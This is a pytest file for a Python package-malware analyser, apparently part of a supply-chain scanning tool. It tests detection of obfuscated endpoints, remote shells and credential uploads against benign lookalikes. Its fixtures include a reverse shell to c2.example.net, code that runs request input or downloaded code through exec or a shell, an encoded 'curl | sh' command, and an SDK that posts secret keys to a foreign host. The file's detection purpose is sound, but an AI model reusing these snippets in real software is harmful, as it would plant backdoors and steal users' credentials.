"""Hidden strings, remote shells and credential uploads in Python, through the analyser and the rules.

Each attack shape is our own small snippet, paired with the benign code that looks most like
it and must stay quiet. Addresses are reserved example domains or documentation-style hosts.
"""

from __future__ import annotations

import base64
import codecs
import textwrap
import zlib
from pathlib import Path

import pytest

from distrust.analyze.kinds import is_known
from distrust.analyze.profile import build_profile
from distrust.analyze.python import analyze_python
from distrust.analyze.score import Assessment, assess_profile, is_foreign_host
from distrust.model import Artifact, Ecosystem, PackageRef, Severity


def caps(source: str) -> set[tuple[str, str]]:
    result = analyze_python("m.py", textwrap.dedent(source).encode())
    assert result.problems == (), result.problems
    for cap in result.capabilities:
        assert is_known(cap.kind), cap.kind
    return {(c.kind, c.value) for c in result.capabilities}


def kinds(source: str) -> set[str]:
    return {kind for kind, _ in caps(source)}


def judge(tmp_path: Path, source: str, *, name: str = "widget", module: str = "widget/core.py") -> Assessment:
    files = {module: textwrap.dedent(source)}
    for rel, text in files.items():
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    artifact = Artifact(
        ref=PackageRef(Ecosystem.PYPI, name, "1.0.0", pinned=True),
        root=tmp_path,
        files=tuple(sorted(files)),
        integrity="sha256-test",
        source=str(tmp_path),
    )
    return assess_profile(build_profile(artifact))


def rule_ids(assessment: Assessment, at_least: Severity = Severity.HIGH) -> set[str]:
    return {f.rule_id for f in assessment.findings if f.severity >= at_least}


URL = "https://drop.example.net/upload"
B64_URL = base64.b64encode(URL.encode()).decode()

# --- hidden strings ------------------------------------------------------------------------

HIDDEN_ENDPOINTS = [
    # a module constant decoded where it is used
    f"""
    import base64, requests
    ENDPOINT = "{B64_URL}"
    def send(data):
        requests.post(base64.b64decode(ENDPOINT).decode(), data=data)
    """,
    # a list of encoded constants decoded in a comprehension
    f"""
    import base64
    KEYS = ["dHh0", "{B64_URL}"]
    def keys():
        return [base64.b64decode(k).decode() for k in KEYS]
    """,
    # character codes
    f"""
    import urllib.request
    u = "".join(map(chr, {[ord(c) for c in URL]}))
    urllib.request.urlopen(u)
    """,
    f"""
    target = "".join([chr(x) for x in {[ord(c) for c in URL]}])
    """,
    # reversed, hex, rot13
    f"""
    import requests
    requests.get("{URL[::-1]}"[::-1])
    """,
    f"""
    HOST = bytes.fromhex("{URL.encode().hex()}").decode()
    """,
    f"""
    import codecs
    HOST = codecs.decode("{codecs.encode(URL, "rot13")}", "rot13")
    """,
    # a helper function of the file does the decoding
    f"""
    import base64, requests
    def d(s):
        return base64.b64decode(s[::-1]).decode()
    requests.get(d("{B64_URL[::-1]}"))
    """,
]


@pytest.mark.parametrize("source", HIDDEN_ENDPOINTS)
def test_hidden_endpoints_are_decoded_and_high(tmp_path: Path, source: str) -> None:
    found = caps(source)
    assert ("network.url", URL) in found, found
    assert any(kind == "obfuscation.decoded" and URL in value for kind, value in found)
    assert "DT-RISK-100" in rule_ids(judge(tmp_path, source))


def test_decoded_target_reaches_the_network_call() -> None:
    found = caps(HIDDEN_ENDPOINTS[0])
    assert ("network.request", f"requests.post {URL}") in found
    assert ("network.host", "drop.example.net") in found


def test_hidden_host_without_scheme_on_a_network_call(tmp_path: Path) -> None:
    blob = base64.b64encode(zlib.compress(b"c2.example.org")).decode()[::-1]
    source = f"""
    from http.client import HTTPSConnection
    from zlib import decompress
    from base64 import b64decode
    class Client:
        def decd(self, data):
            unb64 = lambda s: b64decode(s)
            return decompress(unb64(data[::-1])).decode()
        def ping(self):
            parts = [b"{blob}"]
            conn = HTTPSConnection(self.decd(parts[0]), timeout=1)
    """
    found = caps(source)
    assert ("network.request", "http.client.HTTPSConnection c2.example.org") in found
    assert ("obfuscation.decoded", "reversed+base64+zlib: c2.example.org") in found
    assert "DT-RISK-101" in rule_ids(judge(tmp_path, source))


def test_names_of_builtins_built_from_char_codes(tmp_path: Path) -> None:
    name = "[95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]"
    imp = "[95, 95, 105, 109, 112, 111, 114, 116, 95, 95]"
    source = f"""
    _ = "".join
    loader = globals()[_([chr(c) for c in {name}])].get(_([chr(c) for c in {imp}]))
    """
    found = caps(source)
    assert ("obfuscation.decoded", "charcodes: __import__") in found
    assert ("code.dynamic", "__builtins__.get('__import__')") in found
    assert "DT-RISK-103" in rule_ids(judge(tmp_path, source))


def test_obfuscated_import_and_getattr_still_resolve_the_call() -> None:
    source = """
    rq = __import__("requests")
    g = getattr(rq, "".join(["g", "e", "t"]))
    g("https://a.example.org/x")
    """
    assert ("network.request", "requests.get https://a.example.org/x") in caps(source)


def test_command_assembled_from_parts_reaches_the_spawn_rules(tmp_path: Path) -> None:
    source = """
    import subprocess
    parts = ["power", "shell", " -NoP -C ", "Invoke-WebRequest ", "'http://dl.example.net/a.bat'"]
    cmd = "".join(parts)
    subprocess.run(cmd, shell=True)
    """
    found = caps(source)
    spawn = next(value for kind, value in found if kind == "process.spawn")
    assert "powershell -NoP -C Invoke-WebRequest 'http://dl.example.net/a.bat'" in spawn
    assert ("network.url", "http://dl.example.net/a.bat") in found
    # joining readable words is not hiding: nothing was decoded
    assert "obfuscation.decoded" not in {kind for kind, _ in found}
    assert {"DT-RISK-040", "DT-RISK-084"} <= rule_ids(judge(tmp_path, source))


def test_hidden_shell_command_and_hidden_code(tmp_path: Path) -> None:
    cmd = base64.b64encode(b"curl -s http://x.example | sh").decode()
    code = base64.b64encode(zlib.compress(b"import subprocess\nsubprocess.call(['id'])")).decode()
    source = f"""
    import base64, zlib
    C = base64.b64decode("{cmd}").decode()
    P = zlib.decompress(base64.b64decode("{code}"))
    """
    ids = rule_ids(judge(tmp_path, source))
    assert {"DT-RISK-102", "DT-RISK-104"} <= ids


def test_whitespace_payload(tmp_path: Path) -> None:
    bits = "".join(format(b, "08b") for b in b"import urllib.request as u; u.urlopen('https://x.example/p')")
    hidden = bits.replace("0", " ").replace("1", "\t")
    source = f"""
    class Banner:
        PADDING = {hidden!r}
    """
    found = caps(source)
    assert any(
        kind == "obfuscation.decoded" and value.startswith("whitespace: import urllib")
        for kind, value in found
    )
    assert "DT-RISK-105" in rule_ids(judge(tmp_path, source))


BENIGN_LOOKALIKES = [
    # an embedded image or font, decoded to bytes: binary, not hidden text
    """
    import base64
    PIXEL = base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    )
    FONT = base64.b64decode("d09GMgABAAAAAAJoAAoAAAAABVQAAAIgAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
    """,
    # readable words joined, formatted, replaced: plain string building
    """
    import subprocess
    parts = ["git", "rev-parse", "--short", "HEAD"]
    subprocess.run(" ".join(parts), shell=True)
    greeting = "".join(["Hello", ", ", "world"]).upper()
    url = "https://{}.example.org/{}".format("api", "v1")
    """,
    # magic numbers and control characters from char codes
    """
    PNG_MAGIC = bytes([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A])
    RESET = chr(27) + "[0m"
    ALPHABET = "".join(chr(c) for c in range(97, 123))
    """,
    # indentation and table padding made of whitespace
    """
    INDENT = "    " * 8
    RULE = " \\t" * 40
    """,
    # an SVG icon shipped as base64: its only URL is the XML namespace
    f"""
    import base64
    ICON = base64.b64decode("{base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg"><g/></svg>').decode()}").decode()
    """,
    # base64 of ordinary text, and an API key placeholder
    """
    import base64
    AUTH = base64.b64encode(b"user:pass")
    SAMPLE = base64.b64decode("SGVsbG8gV29ybGQhIFRoaXMgaXMgYSB0ZXN0Lg==")
    """,
]


@pytest.mark.parametrize("source", BENIGN_LOOKALIKES)
def test_benign_lookalikes_stay_below_high(tmp_path: Path, source: str) -> None:
    assessment = judge(tmp_path, source)
    assert assessment.level < Severity.HIGH, [f.title for f in assessment.findings]


def test_binary_decodes_are_not_recorded() -> None:
    assert "obfuscation.decoded" not in kinds(BENIGN_LOOKALIKES[0])
    assert "obfuscation.decoded" not in kinds(BENIGN_LOOKALIKES[2])


# --- remote shells -------------------------------------------------------------------------

REMOTE_SHELLS = [
    """
    import subprocess
    from flask import Flask, request
    app = Flask(__name__)

    @app.route("/run")
    def run():
        out = subprocess.Popen(request.args.get("cmd"), shell=True, stdout=subprocess.PIPE)
        return out.stdout.read()

    app.run(host="0.0.0.0", port=8000)
    """,
    """
    import os, socket
    s = socket.socket()
    s.connect(("c2.example.net", 4444))
    while True:
        data = s.recv(1024)
        os.system(data.decode().strip())
    """,
    """
    from http.server import BaseHTTPRequestHandler
    class H(BaseHTTPRequestHandler):
        def do_GET(self):
            code = self.path[1:]
            eval(code)
    """,
    """
    import subprocess
    def view(request):
        script = request.POST["script"]
        subprocess.run(["/bin/sh", "-c", script])
    """,
    # code the package downloads itself and runs
    """
    import requests
    def update():
        code = requests.get("https://updates.example.net/patch.py").text
        exec(code)
    """,
    """
    from urllib.request import urlopen
    def run():
        exec(urlopen("https://updates.example.net/p").read().decode())
    """,
]


@pytest.mark.parametrize("source", REMOTE_SHELLS)
def test_network_input_into_a_shell_is_critical(tmp_path: Path, source: str) -> None:
    assert "code.remote_input" in kinds(source)
    assessment = judge(tmp_path, source)
    assert assessment.level == Severity.CRITICAL
    assert "DT-RISK-107" in rule_ids(assessment)


def test_server_started_on_all_interfaces_is_recorded() -> None:
    assert ("network.listen", "app.run 0.0.0.0:8000") in caps(REMOTE_SHELLS[0])


BENIGN_SERVERS = [
    # a web app that runs a fixed command
    """
    import subprocess
    from flask import Flask, request
    app = Flask(__name__)

    @app.route("/status")
    def status():
        verbose = request.args.get("verbose")
        return subprocess.run(["git", "status"], capture_output=True).stdout
    """,
    # user input as an argument of a fixed program (an injection risk, not a shell)
    """
    import subprocess
    from flask import request
    def ping():
        host = request.args["host"]
        return subprocess.run(["ping", "-c", "1", host], capture_output=True).stdout
    """,
    # a download used as data; a fixed command run afterwards
    """
    import requests, subprocess
    def sync(url):
        items = requests.get(url).json()
        subprocess.run(["echo", str(len(items))])
        return items
    """,
    # input used for data, and a constant evaluated
    """
    import json, subprocess
    def handler(request):
        payload = json.loads(request.body)
        limit = eval("10 * 10")
        subprocess.run(["echo", "ready"])
        return payload
    """,
]


@pytest.mark.parametrize("source", BENIGN_SERVERS)
def test_servers_that_do_not_run_their_input_stay_quiet(tmp_path: Path, source: str) -> None:
    assert "code.remote_input" not in kinds(source)
    assert "DT-RISK-107" not in rule_ids(judge(tmp_path, source), Severity.LOW)


# --- credentials sent to a foreign host -----------------------------------------------------

SDK_LEAK = """
import requests
class CosConfig:
    def __init__(self, secret_id, secret_key):
        self._secret_id = secret_id
        self._secret_key = secret_key
        data = {"ak": self._secret_id, "sk": self._secret_key}
        requests.post("https://api.collector-requests.xyz/t", json=data)
"""


def test_sdk_posting_its_keys_to_an_unrelated_host_is_high(tmp_path: Path) -> None:
    found = caps(SDK_LEAK)
    assert (
        "network.send_secret",
        "requests.post https://api.collector-requests.xyz/t carries self._secret_id, self._secret_key",
    ) in found
    assert "DT-RISK-108" in rule_ids(judge(tmp_path, SDK_LEAK, name="cos-python-sdk-v5"))


QUIET_SENDS = [
    # OAuth: the client secret goes to the provider's token endpoint
    (
        "oauth-helper",
        """
        import requests
        def token(code, client_secret):
            return requests.post(
                "https://login.identity-provider.example.com/oauth/token",
                data={"grant_type": "authorization_code", "code": code, "client_id": "x",
                      "client_secret": client_secret},
            )
        """,
    ),
    # an SDK sending its API key to its own service
    (
        "acme-sdk",
        """
        import requests
        class Acme:
            def __init__(self, api_key):
                self.api_key = api_key
            def send(self, text):
                body = {"api_key": self.api_key, "text": text}
                return requests.post("https://api.acme.io/v1/messages", json=body)
        """,
    ),
    # a well-known platform's API
    (
        "release-notes",
        """
        import requests
        def publish(token, body):
            payload = {"body": body, "token": token}
            return requests.post("https://api.github.com/repos/o/r/releases", json=payload)
        """,
    ),
    # nothing secret in the payload
    (
        "stats-reporter",
        """
        import requests
        requests.post("https://metrics.other.example.net/v1", json={"count": 3, "name": "x"})
        """,
    ),
]


@pytest.mark.parametrize(("name", "source"), QUIET_SENDS)
def test_legitimate_credential_use_stays_quiet(tmp_path: Path, name: str, source: str) -> None:
    assert "DT-RISK-108" not in rule_ids(judge(tmp_path, source, name=name), Severity.LOW)


@pytest.mark.parametrize(
    ("value", "package", "foreign"),
    [
        ("requests.post https://api.aliyun-sdk-requests.xyz/t carries sk", "python-cos-sdk-v5", True),
        ("requests.post https://cos.ap-beijing.myqcloud.com/x carries sk", "cos-python-sdk-v5", False),
        ("requests.post https://fcm.googleapis.com/send carries key", "pyfcm", False),
        ("requests.post https://api.pyfcm-stats.com/send carries key", "pyfcm", False),
        ("requests.post https://api.postmarkapp.com/x carries token", "postmarker", False),
        ("requests.post https://www.instagram.com/accounts/login/ carries password", "instaloader", False),
        ("requests.post https://api.photo-drop.xyz/x carries password", "instaloader", True),
        ("requests.post http://localhost:8080/x carries password", "anything", False),
        ("requests.post https://203.0.113.7/x carries password", "anything", True),
        ("requests.post https://example.com/x carries password", "anything", False),
    ],
)
def test_foreign_host_judgement(value: str, package: str, foreign: bool) -> None:
    assert is_foreign_host(value, package) is foreign


# --- robustness ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        # obfuscator output: enormous identifiers and literals on one line
        "x" * 100_000 + " = '" + "A" * 200_000 + "'\n_ = ''.join\nv = _([chr(c) for c in [104, 105]])\n",
        # a long chain of concatenations, deeper than the evaluator goes
        "u = " + " + ".join(["'a'"] * 900) + "\nimport requests\nrequests.get(u)\n",
        # a helper that calls itself, and names defined in terms of each other
        "def d(s):\n    return d(s[::-1])\nA = B\nB = A\nimport os\nos.system(d('x') + A)\n",
        # a decompression bomb decoded at import
        f"import zlib\nDATA = zlib.decompress({zlib.compress(bytes(8 * 1024 * 1024))!r})\n",
    ],
)
def test_hostile_inputs_are_analysed_quickly(source: str) -> None:
    import time

    start = time.perf_counter()
    result = analyze_python("m.py", source.encode())
    assert time.perf_counter() - start < 10
    assert all(is_known(c.kind) for c in result.capabilities)
